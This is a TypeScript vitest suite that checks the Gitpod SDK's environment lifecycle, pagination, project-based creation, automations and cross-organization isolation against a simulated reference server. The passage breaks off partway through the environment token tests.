// The official JSON client, @gitpod/sdk 0.6.0, drives our reference server through every
// environment and automation method it offers: client.environments.* (create, retrieve, update,
// list, delete, tokens, create from a project, mark active, start, stop, unarchive),
// client.environments.classes.list and client.environments.automations.* (upsert, services, tasks,
// task executions). Each describe block starts its own server (sdk-peer.ts) and stops it in
// afterAll; the last block fails when an SDK environment or automation method was never called
// with success, or when a method posts to an RPC other than the one its compiled JavaScript names.
//
// The server's simulated runner moves environments, services and task executions one step per
// 100 ms of the server's clock; the peers' clock is manual, so a test moves it step by step
// (stepUntil) and sees every phase the SDK can see.
//
// Expectations come from the EnvironmentService / EnvironmentAutomationService documentation (the
// .proto comments and the SDK reference pages), not from the server's code. Proto3 JSON leaves out
// default values, so `false`, `0`, empty strings and the UNSPECIFIED enum values arrive as absent
// fields.
import { Gitpod, NotFoundError } from "@gitpod/sdk";
import { EnvironmentService } from "@gitpod-connect/schema/gitpod/v1/environment";
import { EnvironmentAutomationService } from "@gitpod-connect/schema/gitpod/v1/environment_automation";
import { RunnerConfigurationService } from "@gitpod-connect/schema/gitpod/v1/runner_configuration";
import { describe, expect, it, vi } from "vitest";
import { calledMethods, sdkMethodsAtRunTime, sdkMethodsFromDeclarations, succeededMethods } from "./sdk-coverage.js";
import {
  collect,
  expectAlreadyExists,
  expectFailedPrecondition,
  expectInvalidArgument,
  expectNotFound,
  expectPermissionDenied,
  expectUnauthenticated,
  missingId,
  rfc3339,
  usePeer,
  uuid,
} from "./sdk-expectations.js";
import { everyRequestSent, startSdkPeer, type ProjectConfig, type SdkPeer } from "./sdk-peer.js";
import { readSdkDeclarations } from "./sdk-rpc-methods.js";

type Environment = Gitpod.Environment;
type EnvironmentPhase = Gitpod.EnvironmentPhase;
type Service = Gitpod.Environments.Automations.Service;
type TaskExecution = Gitpod.TaskExecution;

/** How long one step of the server's simulated runner takes (its default step delay). */
const stepMs = 100;
/** The repository of the documentation's examples. */
const contextUrl = "https://github.com/gitpod-io/gitpod";
/** The project id of the documentation's CreateEnvironmentFromProject and ListEnvironments examples. */
const projectId = "b0e12f6c-4c67-429d-a4a6-d9838b5da047";
/** The creator id of the documentation's ListEnvironments example (no user of the peers). */
const documentedCreatorId = "f53d2330-3795-4c5d-a1f3-453121af9c60";
/**
 * The documentation's "Add SSH public key" example, with the key written out: the documented value
 * ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI...") is cut short and not in the public key file format.
 */
const sshKey = {
  id: "0194b7c1-c954-718d-91a4-9a742aa5fc11",
  value: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGludGVyb3AtdGVzdC1rZXktMDAwMDAwMDAwMDAwMDAw user@example.com",
};
/** An organization of its own, with an admin: everything of the bootstrap organization is hidden from it. */
const otherOrganization = {
  organizations: [{ name: "Other", users: [{ name: "olga", email: "olga@other.test", admin: true, tokens: ["other-org-token"] }] }],
};

/** The documentation's "Create from context URL" example, on the given environment class. */
function fromContextUrl(environmentClassId: string): Gitpod.EnvironmentCreateParams {
  return { spec: { machine: { class: environmentClassId }, content: { initializer: { specs: [{ contextUrl: { url: contextUrl } }] } } } };
}

/** The documentation's "Create from Git repository" example: the main branch of gitpod-io/gitpod. */
function fromGitBranch(environmentClassId: string): Gitpod.EnvironmentCreateParams {
  return {
    spec: {
      machine: { class: environmentClassId },
      content: { initializer: { specs: [{ git: { remoteUri: contextUrl, cloneTarget: "main", targetMode: "CLONE_TARGET_MODE_REMOTE_BRANCH" } }] } },
    },
  };
}

/** The documentation's "Create with custom timeout and ports" example. */
function withTimeoutAndPorts(environmentClassId: string): Gitpod.EnvironmentCreateParams {
  return {
    spec: {
      ...fromContextUrl(environmentClassId).spec,
      timeout: { disconnected: "7200s" },
      ports: [{ port: 3000, admission: "ADMISSION_LEVEL_EVERYONE", name: "Web App" }],
    },
  };
}

/** One state seen after a step, with the server's time then. */
interface Seen<T> {
  value: T;
  atMs: number;
}

/**
 * Moves the server's clock one step at a time (at most `maxSteps`) until `done` holds for what
 * `read` returns; returns what was read after each step.
 */
async function stepUntil<T>(peer: SdkPeer, read: () => Promise<T>, done: (value: T) => boolean, maxSteps = 30): Promise<Seen<T>[]> {
  const seen: Seen<T>[] = [];
  for (let i = 0; i < maxSteps; i++) {
    await peer.clock.advance(stepMs);
    const value = await read();
    seen.push({ value, atMs: peer.clock.nowMs() });
    if (done(value)) return seen;
  }
  throw new Error(`not done after ${maxSteps} steps of ${stepMs} ms; last seen: ${JSON.stringify(seen.at(-1)?.value)}`);
}

/** The environment as the SDK retrieves it, or undefined once it is gone (NotFoundError). */
async function environmentOrGone(sdk: Gitpod, environmentId: string): Promise<Environment | undefined> {
  try {
    return (await sdk.environments.retrieve({ environmentId })).environment;
  } catch (e) {
    if (e instanceof NotFoundError) return undefined;
    throw e;
  }
}

const phaseOf = (e: Environment | undefined): EnvironmentPhase | "gone" => (e === undefined ? "gone" : (e.status?.phase ?? "ENVIRONMENT_PHASE_UNSPECIFIED"));
const isPhase = (phase: EnvironmentPhase) => (e: Environment | undefined) => phaseOf(e) === phase;

/** The values in the order seen, with consecutive repeats collapsed. */
function distinct<T>(values: T[]): T[] {
  return values.filter((v, i) => i === 0 || v !== values[i - 1]);
}

/** Steps an environment until it is in `phase`; returns every environment seen on the way. */
async function stepEnvironmentUntil(peer: SdkPeer, environmentId: string, phase: EnvironmentPhase | "gone", maxSteps = 30) {
  return stepUntil(peer, () => environmentOrGone(peer.sdk, environmentId), (e) => phaseOf(e) === phase, maxSteps);
}

/** Creates an environment and steps it to RUNNING; returns it as retrieved then. */
async function createRunning(peer: SdkPeer, params: Gitpod.EnvironmentCreateParams = fromContextUrl(peer.server.bootstrap.environmentClassId)) {
  const { environment } = await peer.sdk.environments.create(params);
  const seen = await stepEnvironmentUntil(peer, environment.id, "ENVIRONMENT_PHASE_RUNNING");
  return seen.at(-1)!.value!;
}

/** Stops an environment and steps it to STOPPED. */
async function stopToStopped(peer: SdkPeer, environmentId: string) {
  await peer.sdk.environments.stop({ environmentId });
  return (await stepEnvironmentUntil(peer, environmentId, "ENVIRONMENT_PHASE_STOPPED")).at(-1)!.value!;
}

const retrieveService = async (sdk: Gitpod, id: string) => (await sdk.environments.automations.services.retrieve({ id })).service;
const retrieveExecution = async (sdk: Gitpod, id: string) => (await sdk.environments.automations.tasks.executions.retrieve({ id })).taskExecution;
const servicePhase = (s: Service | undefined) => (s === undefined ? "gone" : (s.status?.phase ?? "SERVICE_PHASE_UNSPECIFIED"));
const executionPhase = (x: TaskExecution) => x.status?.phase ?? "TASK_EXECUTION_PHASE_UNSPECIFIED";

async function serviceOrGone(sdk: Gitpod, id: string): Promise<Service | undefined> {
  try {
    return await retrieveService(sdk, id);
  } catch (e) {
    if (e instanceof NotFoundError) return undefined;
    throw e;
  }
}

describe("environments: create, retrieve, update, list", () => {
  const peer = usePeer(otherOrganization);
  let created: Environment;
  let running: Environment;

  it("creates the documented environment from a context URL on the bootstrap class: CREATING, wanted RUNNING, with server-set metadata", async () => {
    const { sdk, server, clock } = peer();
    const response = await sdk.environments.create(fromContextUrl(server.bootstrap.environmentClassId));
    created = response.environment;
    expect(created).toMatchObject({
      id: expect.stringMatching(uuid),
      metadata: {
        organizationId: server.bootstrap.organizationId,
        creator: { id: server.bootstrap.adminUserId, principal: "PRINCIPAL_USER" },
        createdAt: rfc3339(clock.nowMs()),
        // "the last CreateEnvironment or StartEnvironment call for it"
        lastStartedAt: rfc3339(clock.nowMs()),
        originalContextUrl: contextUrl,
        runnerId: server.bootstrap.runnerId,
      },
      spec: {
        desiredPhase: "ENVIRONMENT_PHASE_RUNNING",
        machine: { class: server.bootstrap.environmentClassId },
        content: { initializer: { specs: [{ contextUrl: { url: contextUrl } }] } },
      },
      status: { phase: "ENVIRONMENT_PHASE_CREATING" },
    });
    expect(created.metadata?.archivedAt).toBeUndefined();
    // The URLs are "set only while it runs".
    expect(created.status?.environmentUrls).toBeUndefined();
  });

  it("retrieves the new environment as create returned it", async () => {
    const { environment } = await peer().sdk.environments.retrieve({ environmentId: created.id });
    expect(environment).toEqual(created);
  });

  it("reaches RUNNING through CREATING and STARTING as the server's clock moves, acknowledging the spec, with its URLs and the cloned repository", async () => {
    const seen = await stepEnvironmentUntil(peer(), created.id, "ENVIRONMENT_PHASE_RUNNING", 20);
    expect(distinct(["ENVIRONMENT_PHASE_CREATING", ...seen.map((s) => phaseOf(s.value))])).toEqual([
      "ENVIRONMENT_PHASE_CREATING",
      "ENVIRONMENT_PHASE_STARTING",
      "ENVIRONMENT_PHASE_RUNNING",
    ]);
    // One status per step, each newer than the one before.
    const versions = seen.map((s) => BigInt(s.value?.status?.statusVersion ?? "0"));
    for (let i = 1; i < versions.length; i++) expect(versions[i]! >= versions[i - 1]!).toBe(true);
    expect(seen.slice(0, -1).every((s) => s.value?.status?.environmentUrls === undefined)).toBe(true);
    running = seen.at(-1)!.value!;
    expect(running.metadata).toEqual(created.metadata);
    expect(running.status).toMatchObject({
      runnerAck: { specVersion: running.spec?.specVersion, statusCode: "STATUS_CODE_OK" },
      machine: { phase: "PHASE_RUNNING" },
      content: { phase: "CONTENT_PHASE_READY", git: { cloneUrl: `${contextUrl}.git` } },
      devcontainer: { phase: "PHASE_RUNNING" },
      environmentUrls: { logs: expect.stringMatching(/^https?:\/\//), ssh: { url: expect.stringMatching(/^ssh:\/\//) } },
    });
    expect(running.status?.failureMessage ?? []).toEqual([]);
  });

  it("creates the documented environment from the main branch of a Git repository and checks that branch out", async () => {
    const p = peer();
    const { environment } = await p.sdk.environments.create(fromGitBranch(p.server.bootstrap.environmentClassId));
    expect(environment.spec?.content?.initializer).toEqual(fromGitBranch(p.server.bootstrap.environmentClassId).spec?.content?.initializer);
    const now = (await stepEnvironmentUntil(p, environment.id, "ENVIRONMENT_PHASE_RUNNING", 20)).at(-1)!.value!;
    // clone_url is "the repository URL as given to git clone": here the remote URI itself.
    expect(now.status?.content?.git).toMatchObject({ cloneUrl: contextUrl, branch: "main" });
  });

  it("creates the documented environment with a 2-hour timeout and a port open to everyone, and serves that port once running", async () => {
    const p = peer();
    const { environment } = await p.sdk.environments.create(withTimeoutAndPorts(p.server.bootstrap.environmentClassId));
    expect(environment.spec).toMatchObject({
      timeout: { disconnected: "7200s" },
      ports: [{ port: 3000, admission: "ADMISSION_LEVEL_EVERYONE", name: "Web App" }],
    });
    const now = (await stepEnvironmentUntil(p, environment.id, "ENVIRONMENT_PHASE_RUNNING", 20)).at(-1)!.value!;
    expect(now.status?.environmentUrls?.ports).toEqual([{ port: 3000, url: expect.stringMatching(/^https?:\/\//) }]);
  });

  it("updates the documented Git identity, SSH key and content session of a running environment: the spec changes at once, a new spec version, RUNNING again", async () => {
    const p = peer();
    const environmentId = running.id;
    const contentSession = "0194b7c1-c954-718d-91a4-9a742aa5fc11";
    expect(await p.sdk.environments.update({ environmentId, spec: { content: { gitUsername: "example-user", gitEmail: "user@example.com" } } })).toEqual({});
    expect(await p.sdk.environments.update({ environmentId, spec: { sshPublicKeys: [sshKey] } })).toEqual({});
    expect(await p.sdk.environments.update({ environmentId, spec: { content: { session: contentSession } } })).toEqual({});
    const { environment } = await p.sdk.environments.retrieve({ environmentId });
    expect(environment.spec).toMatchObject({
      machine: running.spec?.machine,
      content: { gitUsername: "example-user", gitEmail: "user@example.com", session: contentSession, initializer: running.spec?.content?.initializer },
      sshPublicKeys: [sshKey],
    });
    expect(BigInt(environment.spec!.specVersion!)).toBeGreaterThan(BigInt(running.spec!.specVersion!));
    // A new content session "makes the environment initialize its content again".
    const seen = await stepUntil(
      p,
      () => environmentOrGone(p.sdk, environmentId),
      (e) => isPhase("ENVIRONMENT_PHASE_RUNNING")(e) && e?.status?.content?.session === contentSession,
      20,
    );
    expect(seen.map((s) => phaseOf(s.value))).toContain("ENVIRONMENT_PHASE_UPDATING");
    const updated = seen.at(-1)!.value!;
    expect(updated.status?.runnerAck?.specVersion).toBe(updated.spec?.specVersion);
    expect(updated.status?.sshPublicKeys).toEqual([{ id: sshKey.id, phase: "CONTENT_PHASE_READY" }]);
    running = updated;
  });

  it("renames an environment and changes its inactivity timeout, leaving the rest of it as it was", async () => {
    const { sdk } = peer();
    const environmentId = running.id;
    expect(await sdk.environments.update({ environmentId, metadata: { name: "Gitpod main" }, spec: { timeout: { disconnected: "14400s" } } })).toEqual({});
    const { environment } = await sdk.environments.retrieve({ environmentId });
    expect(environment.metadata).toEqual({ ...running.metadata, name: "Gitpod main" });
    expect(environment.spec).toMatchObject({ ...running.spec, timeout: { disconnected: "14400s" }, specVersion: expect.any(String) });
    running = environment;
  });

  it("rejects an inactivity timeout below 30 minutes and a malformed SSH key with BadRequestError naming the field", async () => {
    const { sdk } = peer();
    const timeout = await expectInvalidArgument(sdk.environments.update({ environmentId: running.id, spec: { timeout: { disconnected: "600s" } } }));
    expect(timeout.message).toContain("timeout.disconnected");
    const key = await expectInvalidArgument(sdk.environments.update({ environmentId: running.id, spec: { sshPublicKeys: [{ id: "k", value: "not a key" }] } }));
    expect(key.message).toContain("ssh_public_keys");
  });

  it("lists the organization's environments with the documented filters: by phase, creator and runner", async () => {
    const { sdk, server } = peer();
    const ids = async (filter: Gitpod.EnvironmentListParams.Filter) => (await collect(sdk.environments.list({ filter }))).map((e) => e.id).sort();
    const all = await ids({});
    expect(all).toHaveLength(3);
    expect(all).toContain(running.id);
    expect(await ids({ statusPhases: ["ENVIRONMENT_PHASE_RUNNING"] })).toEqual(all);
    expect(await ids({ statusPhases: ["ENVIRONMENT_PHASE_STOPPED", "ENVIRONMENT_PHASE_DELETED"] })).toEqual([]);
    expect(await ids({ creatorIds: [server.bootstrap.adminUserId], runnerIds: [server.bootstrap.runnerId] })).toEqual(all);
    expect(await ids({ creatorIds: [documentedCreatorId] })).toEqual([]);
    expect(await ids({ runnerKinds: ["RUNNER_KIND_REMOTE"] })).toEqual(all);
    expect(await ids({ runnerKinds: ["RUNNER_KIND_LOCAL"] })).toEqual([]);
    const listed = (await collect(sdk.environments.list({}))).find((e) => e.id === running.id);
    expect(listed).toEqual(running);
  });

  it("rejects the documented list example's runner id, which is not a UUID, with BadRequestError naming runner_ids", async () => {
    // The reference's example: runnerIds: ['e6aa9c54-89d3-42c1-ac31-bd8d8f1concentrate'].
    const error = await expectInvalidArgument(
      collect(peer().sdk.environments.list({ filter: { creatorIds: [documentedCreatorId], runnerIds: ["e6aa9c54-89d3-42c1-ac31-bd8d8f1concentrate"] } })),
    );
    expect(error.message).toContain("runner_ids");
  });

  it("rejects an environment without a machine class with BadRequestError naming spec.machine.class", async () => {
    const { sdk } = peer();
    const error = await expectInvalidArgument(sdk.environments.create({ spec: { content: { initializer: { specs: [{ contextUrl: { url: contextUrl } }] } } } }));
    expect(error.message).toContain("spec.machine.class");
    await expectInvalidArgument(sdk.environments.create({}));
  });

  it("answers NotFoundError naming spec.machine.class for a class that does not exist", async () => {
    const error = await expectNotFound(peer().sdk.environments.create(fromContextUrl(missingId)));
    expect(error.message).toContain("spec.machine.class");
  });

  it("rejects a malformed environment id with BadRequestError naming environment_id", async () => {
    const error = await expectInvalidArgument(peer().sdk.environments.retrieve({ environmentId: "not-a-uuid" }));
    expect(error.message).toContain("environment_id");
  });

  it("answers NotFoundError for an environment that does not exist, on every call naming one", async () => {
    const { sdk } = peer();
    const environmentId = missingId;
    await expectNotFound(sdk.environments.retrieve({ environmentId }));
    await expectNotFound(sdk.environments.update({ environmentId, metadata: { name: "Nobody's environment" } }));
    await expectNotFound(sdk.environments.start({ environmentId }));
    await expectNotFound(sdk.environments.stop({ environmentId }));
    await expectNotFound(sdk.environments.delete({ environmentId }));
    await expectNotFound(sdk.environments.createEnvironmentToken({ environmentId }));
    await expectNotFound(sdk.environments.createLogsToken({ environmentId }));
    await expectNotFound(sdk.environments.markActive({ environmentId, activitySignal: { source: "VS Code" } }));
    await expectNotFound(sdk.environments.unarchive({ environmentId }));
  });

  it("hides the environments of another organization: NotFoundError for every call naming one, absent from its list, unchanged", async () => {
    const { sdk } = peer();
    const other = peer().clientWith("other-org-token");
    const environmentId = running.id;
    await expectNotFound(other.environments.retrieve({ environmentId }));
    await expectNotFound(other.environments.update({ environmentId, metadata: { name: "Hijacked" } }));
    await expectNotFound(other.environments.stop({ environmentId }));
    await expectNotFound(other.environments.start({ environmentId }));
    await expectNotFound(other.environments.delete({ environmentId, force: true }));
    await expectNotFound(other.environments.createEnvironmentToken({ environmentId }));
    await expectNotFound(other.environments.createLogsToken({ environmentId }));
    await expectNotFound(other.environments.markActive({ environmentId, activitySignal: { source: "VS Code" } }));
    await expectNotFound(other.environments.unarchive({ environmentId }));
    expect(await collect(other.environments.list({ filter: { archivalStatus: "ARCHIVAL_STATUS_ALL" } }))).toEqual([]);
    // Nor can it create one on the bootstrap organization's class.
    await expectNotFound(other.environments.create(fromContextUrl(peer().server.bootstrap.environmentClassId)));
    expect((await sdk.environments.retrieve({ environmentId })).environment).toEqual(running);
  });
});

describe("environments lifecycle: stop, start, archive, unarchive, delete", () => {
  const peer = usePeer();
  let environment: Environment;

  it("stops a running environment: STOPPING, then STOPPED, wanted STOPPED, without URLs", async () => {
    const p = peer();
    environment = await createRunning(p);
    expect(await p.sdk.environments.stop({ environmentId: environment.id })).toEqual({});
    const seen = await stepEnvironmentUntil(p, environment.id, "ENVIRONMENT_PHASE_STOPPED", 10);
    expect(distinct(seen.map((s) => phaseOf(s.value)))).toEqual(["ENVIRONMENT_PHASE_STOPPING", "ENVIRONMENT_PHASE_STOPPED"]);
    const stopped = seen.at(-1)!.value!;
    expect(stopped.spec?.desiredPhase).toBe("ENVIRONMENT_PHASE_STOPPED");
    expect(stopped.status?.environmentUrls).toBeUndefined();
    expect(stopped.status?.machine?.phase).toBe("PHASE_STOPPED");
    environment = stopped;
  });

  it("starts the stopped environment again: STARTING, then RUNNING, with its configuration and content kept and a new last-started time", async () => {
    const p = peer();
    await p.clock.advance(60_000);
    const startedAtMs = p.clock.nowMs();
    expect(await p.sdk.environments.start({ environmentId: environment.id })).toEqual({});
    const seen = await stepEnvironmentUntil(p, environment.id, "ENVIRONMENT_PHASE_RUNNING", 20);
    expect(distinct(seen.map((s) => phaseOf(s.value)))).toEqual(["ENVIRONMENT_PHASE_STARTING", "ENVIRONMENT_PHASE_RUNNING"]);
    const started = seen.at(-1)!.value!;
    expect(started.metadata).toEqual({ ...environment.metadata, lastStartedAt: rfc3339(startedAtMs) });
    expect(started.spec).toMatchObject({
      desiredPhase: "ENVIRONMENT_PHASE_RUNNING",
      machine: environment.spec?.machine,
      content: environment.spec?.content,
    });
    expect(started.status?.content).toMatchObject({ session: environment.status?.content?.session, phase: "CONTENT_PHASE_READY" });
    environment = started;
  });

  it("records the documented activity signal of VS Code in the environment's status", async () => {
    const { sdk } = peer();
    const activitySignal = { source: "VS Code", timestamp: "2025-02-12T14:30:00Z" };
    expect(await sdk.environments.markActive({ activitySignal, environmentId: environment.id })).toEqual({});
    const { environment: now } = await sdk.environments.retrieve({ environmentId: environment.id });
    expect(now.status?.activitySignal).toEqual(activitySignal);
  });

  it("rejects an activity source shorter than 3 characters with BadRequestError", async () => {
    const error = await expectInvalidArgument(peer().sdk.environments.markActive({ environmentId: environment.id, activitySignal: { source: "VS" } }));
    expect(error.message).toContain("source");
  });

  it("archives an environment left stopped for the server's default 7 days: archived time set, gone from the default list, listed as archived", async () => {
    const p = peer();
    environment = await stopToStopped(p, environment.id);
    await p.clock.advance(7 * 24 * 60 * 60 * 1000);
    const { environment: archived } = await p.sdk.environments.retrieve({ environmentId: environment.id });
    expect(archived.metadata?.archivedAt).toBe(rfc3339(p.clock.nowMs()));
    const ids = async (archivalStatus?: Gitpod.EnvironmentListParams.Filter["archivalStatus"]) =>
      (await collect(p.sdk.environments.list(archivalStatus ? { filter: { archivalStatus } } : {}))).map((e) => e.id);
    expect(await ids()).not.toContain(environment.id);
    expect(await ids("ARCHIVAL_STATUS_ACTIVE")).not.toContain(environment.id);
    expect(await ids("ARCHIVAL_STATUS_ARCHIVED")).toEqual([environment.id]);
    expect(await ids("ARCHIVAL_STATUS_ALL")).toContain(environment.id);
  });

  it("unarchives the environment: no archived time, back in the default list, and it starts again", async () => {
    const p = peer();
    expect(await p.sdk.environments.unarchive({ environmentId: environment.id })).toEqual({});
    const { environment: unarchived } = await p.sdk.environments.retrieve({ environmentId: environment.id });
    expect(unarchived.metadata?.archivedAt).toBeUndefined();
    expect((await collect(p.sdk.environments.list({}))).map((e) => e.id)).toContain(environment.id);
    await p.sdk.environments.start({ environmentId: environment.id });
    environment = (await stepEnvironmentUntil(p, environment.id, "ENVIRONMENT_PHASE_RUNNING", 20)).at(-1)!.value!;
  });

  it("deletes a running environment gracefully: it is stopped first, then DELETING, DELETED, and then gone", async () => {
    const p = peer();
    expect(await p.sdk.environments.delete({ environmentId: environment.id, force: false })).toEqual({});
    const seen = await stepEnvironmentUntil(p, environment.id, "gone", 20);
    expect(distinct(seen.map((s) => phaseOf(s.value)))).toEqual([
      "ENVIRONMENT_PHASE_STOPPING",
      "ENVIRONMENT_PHASE_STOPPED",
      "ENVIRONMENT_PHASE_DELETING",
      "ENVIRONMENT_PHASE_DELETED",
      "gone",
    ]);
    expect(seen.find((s) => s.value !== undefined)?.value?.spec?.desiredPhase).toBe("ENVIRONMENT_PHASE_DELETED");
    await expectNotFound(p.sdk.environments.retrieve({ environmentId: environment.id }));
    expect((await collect(p.sdk.environments.list({ filter: { archivalStatus: "ARCHIVAL_STATUS_ALL" } }))).map((e) => e.id)).not.toContain(environment.id);
    await expectNotFound(p.sdk.environments.delete({ environmentId: environment.id }));
  });

  it("deletes an environment at once with force: true, whatever its phase", async () => {
    const p = peer();
    const { environment: fresh } = await p.sdk.environments.create(fromContextUrl(p.server.bootstrap.environmentClassId));
    await p.clock.advance(3 * stepMs);
    expect(await p.sdk.environments.delete({ environmentId: fresh.id, force: true })).toEqual({});
    await expectNotFound(p.sdk.environments.retrieve({ environmentId: fresh.id }));
  });

  it("takes an environment's services and tasks with it when it is deleted", async () => {
    const p = peer();
    const env = await createRunning(p);
    const { service } = await p.sdk.environments.automations.services.create({
      environmentId: env.id,
      metadata: { reference: "web-server", name: "Web Server" },
      spec: { commands: { start: "npm run dev" } },
    });
    const { task } = await p.sdk.environments.automations.tasks.create({
      environmentId: env.id,
      metadata: { reference: "build", name: "Build Project" },
      spec: { command: "npm run build" },
    });
    await p.sdk.environments.delete({ environmentId: env.id, force: true });
    await expectNotFound(p.sdk.environments.automations.services.retrieve({ id: service.id }));
    await expectNotFound(p.sdk.environments.automations.tasks.retrieve({ id: task.id }));
    expect(await collect(p.sdk.environments.automations.services.list({ filter: { environmentIds: [env.id] } }))).toEqual([]);
    expect(await collect(p.sdk.environments.automations.tasks.list({ filter: { environmentIds: [env.id] } }))).toEqual([]);
  });
});

describe("environments.list pagination through the SDK's auto-paginating iterator", () => {
  const peer = usePeer();
  const created: string[] = [];

  it("creates 28 environments, more than one page of the default size 25", async () => {
    const { sdk, server } = peer();
    for (let i = 0; i < 28; i++) created.push((await sdk.environments.create(fromContextUrl(server.bootstrap.environmentClassId))).environment.id);
    expect(new Set(created).size).toBe(28);
  });

  it("visits every environment once, newest first, across two pages of the default size 25", async () => {
    const { sdk, sent } = peer();
    const before = sent.length;
    const ids = (await collect(sdk.environments.list({}))).map((e) => e.id);
    expect(ids).toEqual([...created].reverse());
    const requests = sent.slice(before);
    expect(requests).toHaveLength(2);
    expect(requests[0]?.query.token).toBeUndefined();
    expect(requests[1]?.query.token).toMatch(/\S/);
    for (const r of requests) expect(r).toMatchObject({ method: "POST", path: "/api/gitpod.v1.EnvironmentService/ListEnvironments" });
  });

  it("sends pageSize and each next page token in the URL query and re-sends the filter in the body", async () => {
    const { sdk, sent, server } = peer();
    const before = sent.length;
    const filter = { statusPhases: ["ENVIRONMENT_PHASE_CREATING" as const], creatorIds: [server.bootstrap.adminUserId] };
    const environments = await collect(sdk.environments.list({ pageSize: 10, filter }));
    expect(environments.map((e) => e.id)).toEqual([...created].reverse());
    const requests = sent.slice(before);
    expect(requests).toHaveLength(3);
    const tokens = new Set<string>();
    for (const [i, request] of requests.entries()) {
      expect(request).toMatchObject({ method: "POST", path: "/api/gitpod.v1.EnvironmentService/ListEnvironments", body: { filter } });
      expect(request.query.pageSize).toBe("10");
      if (i === 0) expect(request.query.token).toBeUndefined();
      else tokens.add(request.query.token!);
    }
    expect(tokens.size).toBe(2);
  });

  it("returns one page at a time to a caller that pages by hand, with the page size sent in the body's pagination", async () => {
    const { sdk } = peer();
    const first = await sdk.environments.list({ pagination: { pageSize: 20 } });
    expect(first.environments).toHaveLength(20);
    expect(first.hasNextPage()).toBe(true);
    const second = await first.getNextPage();
    expect(second.environments).toHaveLength(8);
    expect(second.hasNextPage()).toBe(false);
    expect([...first.environments, ...second.environments].map((e) => e.id)).toEqual([...created].reverse());
  });

  it("rejects a forged page token with BadRequestError", async () => {
    const error = await expectInvalidArgument(peer().sdk.environments.list({ token: "forged-token" }));
    expect(error.message).toContain("token");
  });
});

/** A project whose environments check out gitpod-io/gitpod's main branch and get a web server and a build task. */
const gitpodProject: ProjectConfig = {
  id: projectId,
  name: "Gitpod",
  initializer: { specs: [{ git: { remoteUri: contextUrl, cloneTarget: "main", targetMode: "CLONE_TARGET_MODE_REMOTE_BRANCH" } }] },
  automationsFile: {
    services: {
      "web-server": {
        name: "Web Server",
        description: "Development web server",
        commands: { start: "npm run dev", ready: "curl -s http://localhost:3000" },
        triggeredBy: ["postDevcontainerStart"],
      },
    },
    tasks: {
      build: { name: "Build Project", description: "Builds the project artifacts", command: "npm run build", triggeredBy: ["postEnvironmentStart"] },
    },
  },
};

describe("environments.createFromProject", () => {
  const peer = usePeer({ projects: [gitpodProject], ...otherOrganization });
  let fromProject: Environment;

  it("creates the documented environment from a project with a machine class and a 4-hour timeout: the project's repository, the request's settings", async () => {
    const { sdk, server, clock } = peer();
    const { environment } = await sdk.environments.createFromProject({
      projectId,
      spec: { machine: { class: server.bootstrap.environmentClassId }, timeout: { disconnected: "14400s" } },
    });
    fromProject = environment;
    expect(environment).toMatchObject({
      id: expect.stringMatching(uuid),
      metadata: {
        projectId,
        organizationId: server.bootstrap.organizationId,
        creator: { id: server.bootstrap.adminUserId, principal: "PRINCIPAL_USER" },
        createdAt: rfc3339(clock.nowMs()),
        runnerId: server.bootstrap.runnerId,
      },
      spec: {
        desiredPhase: "ENVIRONMENT_PHASE_RUNNING",
        machine: { class: server.bootstrap.environmentClassId },
        timeout: { disconnected: "14400s" },
        content: { initializer: gitpodProject.initializer },
      },
      status: { phase: "ENVIRONMENT_PHASE_CREATING" },
    });
  });

  it("creates an environment with the project's defaults alone, on the project's environment class", async () => {
    const { sdk, server } = peer();
    const { environment } = await sdk.environments.createFromProject({ projectId });
    expect(environment).toMatchObject({
      metadata: { projectId },
      spec: { machine: { class: server.bootstrap.environmentClassId }, content: { initializer: gitpodProject.initializer } },
    });
    await sdk.environments.delete({ environmentId: environment.id, force: true });
  });

  it("starts the environment with the project's services and tasks, and runs those its start and its dev container trigger", async () => {
    const p = peer();
    await stepEnvironmentUntil(p, fromProject.id, "ENVIRONMENT_PHASE_RUNNING", 20);
    const filter = { environmentIds: [fromProject.id] };
    const [services, tasks] = [await collect(p.sdk.environments.automations.services.list({ filter })), await collect(p.sdk.environments.automations.tasks.list({ filter }))];
    expect(services.map((s) => s.metadata)).toEqual([
      expect.objectContaining({ reference: "web-server", name: "Web Server", description: "Development web server", triggeredBy: [{ postDevcontainerStart: true }] }),
    ]);
    expect(services[0]?.spec?.commands).toEqual({ start: "npm run dev", ready: "curl -s http://localhost:3000" });
    expect(tasks.map((t) => t.metadata)).toEqual([
      expect.objectContaining({ reference: "build", name: "Build Project", description: "Builds the project artifacts", triggeredBy: [{ postEnvironmentStart: true }] }),
    ]);
    expect(tasks[0]?.spec).toEqual({ command: "npm run build" });
    // The dev container is up and the environment has started: both triggers have fired.
    const seen = await stepUntil(
      p,
      async () => ({
        service: await retrieveService(p.sdk, services[0]!.id),
        executions: await collect(p.sdk.environments.automations.tasks.executions.list({ filter: { taskIds: [tasks[0]!.id] } })),
      }),
      ({ service, executions }) => servicePhase(service) === "SERVICE_PHASE_RUNNING" && executions.length === 1 && executionPhase(executions[0]!) === "TASK_EXECUTION_PHASE_SUCCEEDED",
      20,
    );
    const { executions } = seen.at(-1)!.value;
    expect(executions[0]?.metadata).toMatchObject({ taskId: tasks[0]!.id, environmentId: fromProject.id, startedBy: expect.stringMatching(/postEnvironmentStart/i) });
  });

  it("lists the running environments of the project, as documented", async () => {
    const { sdk } = peer();
    const environments = await collect(
      sdk.environments.list({ filter: { statusPhases: ["ENVIRONMENT_PHASE_RUNNING"], projectIds: [projectId] }, pagination: { pageSize: 10 } }),
    );
    expect(environments.map((e) => e.id)).toEqual([fromProject.id]);
    expect(await collect(sdk.environments.list({ filter: { projectIds: [missingId] } }))).toEqual([]);
  });

  it("answers NotFoundError naming project_id for a project that does not exist and for another organization's project", async () => {
    const error = await expectNotFound(peer().sdk.environments.createFromProject({ projectId: missingId }));
    expect(error.message).toContain("project_id");
    await expectNotFound(peer().clientWith("other-org-token").environments.createFromProject({ projectId }));
  });
});

describe("environment tokens", () => {
  const peer = usePeer();
  let environment: Environment;
  let other: Environment;

  it("issues an access token for the environment through CreateEnvironmentAccessToken, a new one on every call", async () => {
    const p = peer();
    environment = await createRunning(p);
    other = await createRunning(p);
    const before = p.sent.length;
    const first = await p.sdk.environments.createEnvironmentToken({ environmentId: environment.id });
    const second = await p.sdk.environments.createEnvironmentToken({ environmentId: environment.id });
    expect(first.accessToken).toMatch(/\S{16,}/);
    expect(second.accessToken).not.toBe(first.accessToken);
